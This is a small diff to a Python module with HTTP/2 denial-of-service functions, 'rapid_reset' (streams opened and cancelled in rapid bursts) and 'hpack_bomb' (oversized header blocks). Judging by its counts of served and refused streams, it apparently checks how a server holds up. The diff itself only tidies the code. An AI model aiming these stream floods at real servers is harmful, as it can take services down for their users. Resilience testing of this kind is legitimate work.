@@ -79,9 +79,11 @@ def rapid_reset(address: str) -> dict:
   raw = connect(address)
   block = b"".join(b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
                    for name, value in request_fields(DUPLEX))
+  cancel = struct.pack(">I", CANCEL)
+
   def chunks():
     for first in range(1, 100_000, 200):
-      yield b"".join(frame(HEADERS, END_HEADERS, number, block) + frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL))
+      yield b"".join(frame(HEADERS, END_HEADERS, number, block) + frame(RST_STREAM, 0, number, cancel)
                      for number in range(first, first + 200, 2))
   return drive(raw, chunks(), 10)
 
@@ -146,7 +148,8 @@ def hpack_bomb(address: str) -> dict:
       yield frame(HEADERS, END_HEADERS | END_STREAM, number, start + b"\xbe" * 16000)
   result = drive(raw, chunks(), 10)
   served = [number for number, stream in raw.streams.items() if number > 1 and stream.grpc_status == 0]
-  refused = [stream for stream in raw.streams.values() if stream.reset or stream.status == 431 or stream.grpc_status == 8]
+  refused = [stream for stream in raw.streams.values()
+             if stream.reset or stream.status == 431 or stream.grpc_status == 8]
   result["served"] = len(served)
   if result["ended"] == "open" and refused:
     result["ended"] = f"{len(refused)} streams refused"
